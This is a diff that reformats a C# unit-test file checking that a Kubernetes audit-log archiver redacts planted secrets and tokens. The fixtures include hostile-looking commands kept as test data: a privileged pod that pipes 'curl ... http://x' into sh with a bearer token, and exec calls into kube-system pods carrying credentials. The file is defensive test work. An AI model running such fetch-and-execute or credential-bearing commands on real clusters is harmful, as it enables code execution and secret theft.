@@ -23,16 +23,59 @@ public sealed class RedactionTests
 
     private static readonly EventJson[] Planted =
     [
-        new() { Resource = "secrets", RequestObject = $$$"""{"type":"kubernetes.io/service-account-token","data":{"token":"{{{Secret}}}"},"stringData":{"p":"{{{Secret}}}"}}""" },
+        new()
+        {
+            Resource = "secrets",
+            RequestObject =
+                $$$"""{"type":"kubernetes.io/service-account-token","data":{"token":"{{{Secret}}}"},"stringData":{"p":"{{{Secret}}}"}}""",
+        },
         new() { Resource = "serviceaccounts", Subresource = "token", RequestObject = $$$"""{"status":{"token":"{{{Jwt}}}"}}""" },
         new() { Resource = "tokenreviews", Namespace = "", RequestObject = $$$"""{"spec":{"token":"{{{Secret}}}"}}""" },
-        new() { Verb = "create", Subresource = "exec", Code = 101, RequestUri = $"/api/v1/namespaces/kube-system/pods/x/exec?command=curl&command=-H&command=Authorization%3A+Bearer+{Jwt}", Namespace = "kube-system" },
-        new() { Verb = "get", Subresource = "exec", Code = 101, RequestUri = $"/api/v1/namespaces/kube-system/pods/x/exec?command=mysql&command=--password%3D{Secret}", Namespace = "kube-system" },
+        new()
+        {
+            Verb = "create",
+            Subresource = "exec",
+            Code = 101,
+            RequestUri = "/api/v1/namespaces/kube-system/pods/x/exec?command=curl&command=-H"
+                + $"&command=Authorization%3A+Bearer+{Jwt}",
+            Namespace = "kube-system",
+        },
+        new()
+        {
+            Verb = "get",
+            Subresource = "exec",
+            Code = 101,
+            RequestUri = $"/api/v1/namespaces/kube-system/pods/x/exec?command=mysql&command=--password%3D{Secret}",
+            Namespace = "kube-system",
+        },
         new() { Resource = "", Verb = "get", RequestUri = $"/api/v1/x?token={Secret}&x=1", User = "system:anonymous", Code = 200 },
-        new() { Resource = "secrets", Verb = "list", Namespace = "", Name = "", RequestUri = "/api/v1/secrets", UserAgent = $"tool/1 Authorization: Bearer {Jwt}", Code = 200 },
-        new() { Resource = "pods", Name = "x", RequestObject = $$$"""{"spec":{"hostPID":true,"containers":[{"image":"alpine","command":["sh","-c","curl -u a:b -H 'Authorization: Bearer {{{Jwt}}}' http://x | sh"],"env":[{"name":"DB_PASSWORD","value":"a\"{{{Secret}}}"}]}]}}""" },
+        new()
+        {
+            Resource = "secrets",
+            Verb = "list",
+            Namespace = "",
+            Name = "",
+            RequestUri = "/api/v1/secrets",
+            UserAgent = $"tool/1 Authorization: Bearer {Jwt}",
+            Code = 200,
+        },
+        new()
+        {
+            Resource = "pods",
+            Name = "x",
+            RequestObject =
+                $$$"""{"spec":{"hostPID":true,"containers":[{"image":"alpine","command":["sh","-c","curl -u a:b """
+                + $$$"""-H 'Authorization: Bearer {{{Jwt}}}' http://x | sh"],"env":"""
+                + $$$"""[{"name":"DB_PASSWORD","value":"a\"{{{Secret}}}"}]}]}}""",
+        },
         new() { Resource = "configmaps", RequestObject = $$$"""{"data":{"a":"password={{{Secret}}}","api_key":"{{{Secret}}}"}}""" },
-        new() { Resource = "clusterrolebindings", Namespace = "", UserAgent = $"tool/1 token={Secret}", RequestObject = $$$"""{"roleRef":{"name":"cluster-admin"},"subjects":[{"name":"password={{{Secret}}}"}]}""" },
+        new()
+        {
+            Resource = "clusterrolebindings",
+            Namespace = "",
+            UserAgent = $"tool/1 token={Secret}",
+            RequestObject = $$$"""{"roleRef":{"name":"cluster-admin"},"subjects":[{"name":"password={{{Secret}}}"}]}""",
+        },
     ];
 
     [Fact]
@@ -79,8 +122,8 @@ public sealed class RedactionTests
         new MessageReader(new AuditEventParser(), "default").Read(new HubMessage(line, 1, default), batch);
         Assert.Equal(IntakeOutcome.Salvaged, Assert.Single(batch.Records).Outcome);
 
-        using StreamReader reader = new(new GZipStream(
-            new MemoryStream(AuditPipeline.Archive(batch, new BatchPosition("0", 1, 1, default), redact: true).Blobs.Single().Content), CompressionMode.Decompress));
+        byte[] content = AuditPipeline.Archive(batch, new BatchPosition("0", 1, 1, default), redact: true).Blobs.Single().Content;
+        using StreamReader reader = new(new GZipStream(new MemoryStream(content), CompressionMode.Decompress));
         string archived = reader.ReadToEnd();
 
         Assert.DoesNotContain(Secret, archived, StringComparison.Ordinal);
@@ -89,16 +132,20 @@ public sealed class RedactionTests
         new MessageReader(new AuditEventParser(), "default").Read(new HubMessage(Encoding.UTF8.GetBytes(archived), 1, default), again);
         IntakeRecord read = Assert.Single(again.Records);
         Assert.Equal(IntakeOutcome.Salvaged, read.Outcome);
-        Assert.Equal(("cut", batch.Records[0].Event!.ObjectRef, batch.Records[0].Cluster), (read.Event!.AuditId, read.Event.ObjectRef, read.Cluster));
+        Assert.Equal(
+            ("cut", batch.Records[0].Event!.ObjectRef, batch.Records[0].Cluster),
+            (read.Event!.AuditId, read.Event.ObjectRef, read.Cluster));
     }
 
     [Fact]
     public void Archive_SecretDeliveredTwice_IsRedactedTwiceAndReadTheSame()
     {
         string record = (Planted[0] with { AuditId = "twice" }).ToAksRecord();
-        string odd = (Planted[0] with { AuditId = "odd", UserAgent = "HALF" }).ToAksRecord().Replace("HALF", """\\ud800""", StringComparison.Ordinal);
+        string odd = (Planted[0] with { AuditId = "odd", UserAgent = "HALF" }).ToAksRecord()
+            .Replace("HALF", """\\ud800""", StringComparison.Ordinal);
         using IntakeBatch batch = new();
-        new MessageReader(new AuditEventParser(), "default").Read(new HubMessage(Encoding.UTF8.GetBytes($$"""{"records":[{{record}},{{record}},{{odd}},{{odd}}]}"""), 1, default), batch);
+        string twice = $$"""{"records":[{{record}},{{record}},{{odd}},{{odd}}]}""";
+        new MessageReader(new AuditEventParser(), "default").Read(new HubMessage(Encoding.UTF8.GetBytes(twice), 1, default), batch);
 
         ArchiveBlob blob = AuditPipeline.Archive(batch, new BatchPosition("0", 1, 1, default), redact: true).Blobs.Single();
 
@@ -107,14 +154,21 @@ public sealed class RedactionTests
         Assert.DoesNotContain(Secret, text, StringComparison.Ordinal);
         using IntakeBatch again = new();
         new MessageReader(new AuditEventParser(), "default").Read(new HubMessage(Encoding.UTF8.GetBytes(text), 1, default), again);
-        Assert.Equal(batch.Records.Select(static r => (r.Outcome, r.Event?.AuditId)), again.Records.Select(static r => (r.Outcome, r.Event?.AuditId)));
+        Assert.Equal(
+            batch.Records.Select(static r => (r.Outcome, r.Event?.AuditId)),
+            again.Records.Select(static r => (r.Outcome, r.Event?.AuditId)));
         Assert.Contains(batch.Records, static r => r.Outcome == IntakeOutcome.Duplicate);
     }
 
     [Fact]
     public void Redact_BareEventWithALogInItsBody_IsNotTakenForAnEnvelope()
     {
-        EventJson json = new() { Resource = "secrets", AuditId = "bare", RequestObject = $$$"""{"stringData":{"a":"{{{Secret}}}","log":"x"}}""" };
+        EventJson json = new()
+        {
+            Resource = "secrets",
+            AuditId = "bare",
+            RequestObject = $$$"""{"stringData":{"a":"{{{Secret}}}","log":"x"}}""",
+        };
 
         string text = EvidenceText.Of(Encoding.UTF8.GetBytes(json.ToString())).Text;
 
